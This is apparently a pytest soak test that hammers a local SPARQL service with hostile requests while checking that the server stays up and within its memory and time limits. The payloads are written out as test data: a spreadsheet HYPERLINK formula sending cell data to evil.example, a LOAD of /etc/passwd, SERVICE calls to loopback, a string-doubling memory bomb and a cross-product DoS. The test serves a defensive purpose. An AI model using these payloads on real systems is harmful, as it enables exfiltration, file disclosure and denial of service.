"""Hostile requests for DUTYGRAPH_SOAK_SECONDS (`make soak`: 60 s; skipped otherwise) against a server started
the way `make run` starts it, while other clients ask plain questions (issue 21). The short forms of each item
are tests/test_hostile_queries.py and tests/test_hostile_inputs.py; this holds them up over time: the server
stays up, plain requests are answered within the time limit + 3 s, the loopback listener a SERVICE names gets
no connection, the server and its query workers stay under a memory bound derived from the settings, the pool's
workers are its only children and never more than its slots, and exported cells stay text. Figures go to
test-artifacts/hostile-soak.json (docs/RELIABILITY.md quotes them)."""
from __future__ import annotations

import csv
import io
import itertools
import json
import os
import random
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import openpyxl
import pytest
from conftest import ARTIFACTS, CHENGDU, LINTONG, ROOT, LoopbackListener, dutygraph_serve

from dutygraph.service.app import Settings
from dutygraph.service.sparql import SparqlSettings

SECONDS = float(os.environ.get("DUTYGRAPH_SOAK_SECONDS", "0"))
pytestmark = [pytest.mark.server,
              pytest.mark.skipif(SECONDS <= 0, reason="the soak runs in `make soak` (DUTYGRAPH_SOAK_SECONDS)"),
              pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc (Linux)")]

DEFAULTS = Settings()  # `make run` passes no limit, so the server runs with these
LIMIT_S = DEFAULTS.timeout_s
WORKERS = SparqlSettings().max_concurrent_queries  # query slots, and worker processes with isolation "process"
ANSWERED_WITHIN_S = LIMIT_S + 3.0
SLACK_MB = 256  # threads, allocator arenas, the text index (kept outside the answer budget)
HOSTILE_CLIENTS, PLAIN_CLIENTS = 2, 3  # fewer hostile clients than slots: a plain query always finds one
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)"]
PLAN = CHENGDU.stem
ACCEPT = {"Accept": "application/sparql-results+json"}


# ------------------------------------------------------------------ the server, as `make run` starts it

def _formula_documents(folder: Path) -> Path:
    """Both samples, Chengdu's first four statements replaced by formula-like text."""
    lines = CHENGDU.read_text(encoding="utf-8").split("\n")
    for number, formula in enumerate(FORMULAS, start=1):
        at = next(i for i, line in enumerate(lines) if line.startswith(f"{number}\t"))
        cells = lines[at].split("\t")
        lines[at] = "\t".join([cells[0], formula, *cells[2:]])
    folder.mkdir()
    (folder / CHENGDU.name).write_text("\n".join(lines), encoding="utf-8")
    (folder / LINTONG.name).write_bytes(LINTONG.read_bytes())
    return folder


def _command() -> list[str]:
    script = Path(sys.executable).parent / "dutygraph"
    return [str(script)] if script.exists() else [sys.executable, "-m", "dutygraph.service.cli"]


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[dict]:
    """A temp store holding the formula plan and Lintong, served by the Makefile's `run` command line."""
    base = tmp_path_factory.mktemp("soak")
    store = base / "store"
    loaded = subprocess.run([*_command(), "load", "--store", str(store), str(_formula_documents(base / "docs"))],
                            capture_output=True, text=True, cwd=ROOT)
    assert loaded.returncode == 0, loaded.stderr[-2000:]
    with dutygraph_serve(store, "--host", "127.0.0.1", "--load-samples-if-empty", "--local-uploads") as (url, process):
        yield {"url": url, "process": process}


# ------------------------------------------------------------------ what is watched


def _status_kb(pid: int, field: str) -> int:
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) for line in status if line.startswith(field + ":"))


def _pss_kb(pid: int) -> int:
    """Proportional set size: shared copy-on-write pages split between the processes sharing them."""
    with open(f"/proc/{pid}/smaps_rollup", encoding="ascii") as rollup:
        return next(int(line.split()[1]) for line in rollup if line.startswith("Pss:"))


def children(pid: int) -> list[int]:
    """Live (not zombie) child processes of `pid`."""
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        with open(task / "children", encoding="ascii") as handle:
            found += [int(child) for child in handle.read().split()]
    live = []
    for child in found:
        try:
            state = Path(f"/proc/{child}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state != "Z":
            live.append(child)
    return live


class _Monitor:
    """Samples the server and its children every 0.2 s: alive, how many children, RSS and PSS (MiB)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peaks = {"server_rss_mb": 0.0, "sum_rss_mb": 0.0, "sum_pss_mb": 0.0, "children": 0}
        self.samples = 0
        self.died = False
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.wait(0.2):
            try:
                kids = children(self.pid)
                server_kb = _status_kb(self.pid, "VmRSS")
                rss_kb, pss_kb = server_kb, _pss_kb(self.pid)
                for kid in kids:
                    with_kid = (_status_kb(kid, "VmRSS"), _pss_kb(kid))
                    rss_kb, pss_kb = rss_kb + with_kid[0], pss_kb + with_kid[1]
            except (OSError, StopIteration):
                if not Path(f"/proc/{self.pid}").exists():
                    self.died = True
                continue  # a worker ended between the listing and the reading
            self.samples += 1
            for key, value in (("server_rss_mb", server_kb / 1024), ("sum_rss_mb", rss_kb / 1024),
                               ("sum_pss_mb", pss_kb / 1024), ("children", len(kids))):
                self.peaks[key] = max(self.peaks[key], round(value, 1))


# ------------------------------------------------------------------ the requests

DOUBLING = ('SELECT (STRLEN(?s40) AS ?n) WHERE {{ BIND("{seed}" AS ?s0) '
            + " ".join(f"BIND(CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(40)) + " }}")


def _detail(response: httpx.Response) -> str:
    try:
        body = response.json()
    except ValueError:
        return response.text[:200]
    return str(body.get("detail", "")) if isinstance(body, dict) else ""


def _expect(response: httpx.Response, status: int, words: str = "") -> str | None:
    if response.status_code == status and (not words or words in _detail(response)):
        return None
    return f"{response.status_code} {_detail(response)[:160]}"


def _export_problem(http: httpx.Client) -> str | None:
    """The formula texts come back as text cells in xlsx and escaped, quoted text in csv."""
    xlsx = http.get("/api/tasks", params={"plan": PLAN, "format": "xlsx"})
    if xlsx.status_code != 200:
        return f"xlsx {xlsx.status_code}"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = {row[header.index("number")].value: row[header.index("text")] for row in sheet.iter_rows(min_row=2)}
    for number, formula in enumerate(FORMULAS, start=1):
        if (cells[number].value, cells[number].data_type) != (formula, "s"):
            return f"xlsx row {number}: {cells[number].value!r} typed {cells[number].data_type}"
    text = http.get("/api/tasks", params={"plan": PLAN, "format": "csv"}).text
    rows = {row["number"]: row["text"] for row in csv.DictReader(io.StringIO(text))}
    for number, formula in enumerate(FORMULAS, start=1):
        if rows.get(str(number)) != "'" + formula:
            return f"csv row {number}: {rows.get(str(number))!r}"
    return None


def _chunked(size: int) -> Iterator[bytes]:
    yield b"query="
    for _ in range(size // (64 << 10) + 1):
        yield b"x" * (64 << 10)


def _oversized_chunked(http: httpx.Client) -> str | None:
    """A streamed body past the limit: 413, or the server closing the connection on the rest of it."""
    try:
        response = http.post("/sparql", content=_chunked(2 * DEFAULTS.max_body_bytes),
                             headers={"Content-Type": "application/x-www-form-urlencoded"})
    except (httpx.WriteError, httpx.RemoteProtocolError, httpx.ReadError):
        return None
    return _expect(response, 413)


def hostile_requests(listener_port: int) -> dict[str, Callable[[httpx.Client], str | None]]:
    """Each kind of hostile request, as a call that returns what went wrong (None: refused or stopped as it must be)."""
    def sparql(text: str) -> Callable[[httpx.Client], httpx.Response]:
        return lambda http: http.post("/sparql", data={"query": text}, headers=ACCEPT)

    def seed() -> str:
        return "".join(random.choices("abcdefghijklmnop", k=16))  # distinct texts: nothing is answered from memory

    return {
        "deep nesting": lambda http: _expect(sparql("SELECT * WHERE " + "{" * 3000 + " ?s ?p ?o " + "}" * 3000)(http),
                                             400, "levels deep"),
        "parentheses": lambda http: _expect(sparql("SELECT * WHERE { ?s ?p ?o FILTER(" + "(" * 10_000 + "?o"
                                                   + ")" * 10_000 + ") }")(http), 400, "the limit is"),
        "SERVICE to loopback": lambda http: _expect(sparql(
            f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener_port}/sparql> {{ ?s ?p ?o }} }}")(http),
            400, "SERVICE is disabled"),
        "SERVICE SILENT by prefix": lambda http: _expect(sparql(
            f"PREFIX in: <http://127.0.0.1:{listener_port}/> SELECT * WHERE {{ SERVICE SILENT in:x {{ ?s ?p ?o }} }}")(http),
            400, "SERVICE is disabled"),
        "CONCAT memory bomb": lambda http: _expect_either(sparql(DOUBLING.format(seed=seed()))(http)),
        "cross product": lambda http: _expect(sparql(
            f'SELECT (COUNT(*) AS ?n) WHERE {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(?c != "{seed()}") }}')(http),
            503, "time limit"),
        "oversized body": lambda http: _expect(http.post(
            "/sparql", data={"query": "x" * (2 * DEFAULTS.max_body_bytes)}, headers=ACCEPT), 413),
        "oversized chunked body": _oversized_chunked,
        "LOAD of a local file": lambda http: _expect_refused(http.post(
            "/sparql", data={"update": "LOAD <file:///etc/passwd>"})),
        "formula-laden exports": _export_problem,
    }


def _expect_either(response: httpx.Response) -> str | None:
    """A memory bomb ends at the memory limit, or at the time limit on a machine too busy to allocate fast."""
    if response.status_code == 503 and ("memory limit" in _detail(response) or "time limit" in _detail(response)):
        return None
    return f"{response.status_code} {_detail(response)[:160]}"


def _expect_refused(response: httpx.Response) -> str | None:
    return None if response.status_code in (400, 401, 403) else f"{response.status_code} {_detail(response)[:160]}"


def plain_requests() -> Iterator[tuple[str, Callable[[httpx.Client], httpx.Response]]]:
    """Plain questions, the /sparql ones distinct each time (a comment differs) so that a worker answers them."""
    for turn in itertools.count():
        yield ("sparql", lambda http, t=turn: http.post(
            "/sparql", headers=ACCEPT, data={"query": f"SELECT (COUNT(*) AS ?n) WHERE {{ ?s a ?type }} # {t}"}))
        yield ("sparql", lambda http, t=turn: http.get(
            "/sparql", headers=ACCEPT, params={"query": f"SELECT * WHERE {{ ?s ?p ?o }} LIMIT {10 + t % 50}"}))
        yield ("api", lambda http: http.get("/api/tasks", params={"plan": "lintong_plan"}))
        yield ("api", lambda http: http.get("/api/search", params={"q": "消防"}))
        yield ("health", lambda http: http.get("/healthz"))


# ------------------------------------------------------------------ the soak

def test_hostile_requests_for_the_soak_time(server: dict) -> None:
    url, process = server["url"], server["process"]
    pid = process.pid
    with httpx.Client(base_url=url, timeout=60) as http:  # the text index and the kept listings, before measuring
        assert http.get("/api/search", params={"q": "消防"}).status_code == 200
    time.sleep(1.0)
    base_mb = _status_kb(pid, "VmRSS") / 1024
    server_bound_mb = base_mb + DEFAULTS.cache_mb + SLACK_MB
    # each worker: at most the server's pages at fork (shared, but counted in every RSS) plus its own budget
    sum_rss_bound_mb = (1 + WORKERS) * server_bound_mb + WORKERS * DEFAULTS.query_memory_mb
    sum_pss_bound_mb = server_bound_mb + WORKERS * DEFAULTS.query_memory_mb

    listener, monitor = LoopbackListener(), _Monitor(pid)
    kinds = hostile_requests(listener.port)
    hostile: Counter[str] = Counter()
    answers: dict[str, Counter[str]] = {name: Counter() for name in kinds}  # how each kind was answered
    plain: Counter[str] = Counter()
    problems: list[str] = []
    slowest = {"hostile_s": 0.0, "plain_s": 0.0}
    lock = threading.Lock()
    stop_at = time.monotonic() + SECONDS

    def timed(kind: str, call: Callable[[], str | None], where: str) -> None:
        started = time.monotonic()
        try:
            problem = call()
        except Exception as error:  # noqa: BLE001 - a client thread must not die silently: it is a finding
            problem = f"{type(error).__name__}: {error}"
        elapsed = time.monotonic() - started
        with lock:
            slowest[where] = max(slowest[where], round(elapsed, 2))
            if problem is None and elapsed > ANSWERED_WITHIN_S:
                problem = f"answered after {elapsed:.1f} s"
            if problem is not None:
                problems.append(f"{where} {kind}: {problem}")

    def hostile_client(offset: int) -> None:
        names = list(kinds)
        seen: list[str] = []

        def note(response: httpx.Response) -> None:
            response.read()
            seen.append(f"{response.status_code} {_detail(response)[:40]}".strip() if response.status_code == 503
                        else str(response.status_code))

        with httpx.Client(base_url=url, timeout=ANSWERED_WITHIN_S + 30, event_hooks={"response": [note]}) as http:
            for turn in itertools.count(offset):
                if time.monotonic() >= stop_at:
                    return
                name = names[turn % len(names)]
                seen.clear()
                timed(name, lambda name=name: kinds[name](http), "hostile_s")
                with lock:
                    hostile[name] += 1
                    answers[name].update(seen or ["connection closed"])

    def plain_client(offset: int) -> None:
        requests = plain_requests()
        for _ in range(offset):
            next(requests)
        with httpx.Client(base_url=url, timeout=ANSWERED_WITHIN_S + 30) as http:
            for kind, send in requests:
                if time.monotonic() >= stop_at:
                    return

                def call(send: Callable[[httpx.Client], httpx.Response] = send) -> str | None:
                    return _expect(send(http), 200)

                timed(kind, call, "plain_s")
                with lock:
                    plain[kind] += 1

    threads = ([threading.Thread(target=hostile_client, args=(i * len(kinds) // HOSTILE_CLIENTS,))
                for i in range(HOSTILE_CLIENTS)]
               + [threading.Thread(target=plain_client, args=(i,)) for i in range(PLAIN_CLIENTS)])
    started = time.monotonic()
    monitor.thread.start()
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=SECONDS + 4 * ANSWERED_WITHIN_S + 60)
        wall = time.monotonic() - started
        time.sleep(1.0)  # a SERVICE call or a worker left running would show now
        after = time.monotonic()
        with httpx.Client(base_url=url, timeout=60) as http:
            final = http.post("/sparql", headers=ACCEPT, data={"query": "SELECT (COUNT(*) AS ?n) WHERE { ?s a ?type } # last"})
        final_s = time.monotonic() - after
        left = children(pid)
    finally:
        monitor.stop.set()
        monitor.thread.join(timeout=5)
        listener.close()
    figures = {
        "seconds": SECONDS, "wall_s": round(wall, 1), "hostile_clients": HOSTILE_CLIENTS, "plain_clients": PLAIN_CLIENTS,
        "limit_s": LIMIT_S, "workers": WORKERS, "query_memory_mb": DEFAULTS.query_memory_mb, "cache_mb": DEFAULTS.cache_mb,
        "hostile": dict(hostile), "answers": {name: dict(seen) for name, seen in answers.items()}, "plain": dict(plain),
        "problems": len(problems), "problem_samples": problems[:8],
        "slowest": slowest, "listener_connections": listener.connections, "monitor_samples": monitor.samples,
        "base_rss_mb": round(base_mb, 1), "peaks": monitor.peaks, "server_peak_rss_mb": round(_status_kb(pid, "VmHWM") / 1024, 1),
        "bounds_mb": {"server_rss": round(server_bound_mb), "sum_rss": round(sum_rss_bound_mb), "sum_pss": round(sum_pss_bound_mb)},
        "children_after": len(left), "final_plain_s": round(final_s, 2),
    }
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "hostile-soak.json").write_text(json.dumps(figures, ensure_ascii=False, indent=2))

    assert process.poll() is None and not monitor.died, "the server died"
    assert problems == [], figures
    assert listener.connections == 0, "a SERVICE query reached the loopback listener"
    assert final.status_code == 200 and final_s < ANSWERED_WITHIN_S, final.text
    assert set(hostile) == set(kinds), f"not every kind was sent: {dict(hostile)}"
    assert sum(plain.values()) >= 10 * PLAIN_CLIENTS, plain
    assert wall < SECONDS + 2 * ANSWERED_WITHIN_S + 30, "the soak ran over its time"
    assert monitor.samples > SECONDS, "the monitor hardly sampled"
    assert figures["server_peak_rss_mb"] < server_bound_mb, figures
    assert monitor.peaks["sum_rss_mb"] < sum_rss_bound_mb and monitor.peaks["sum_pss_mb"] < sum_pss_bound_mb, figures
    assert monitor.peaks["children"] <= WORKERS and len(left) <= WORKERS, "children other than the query workers"
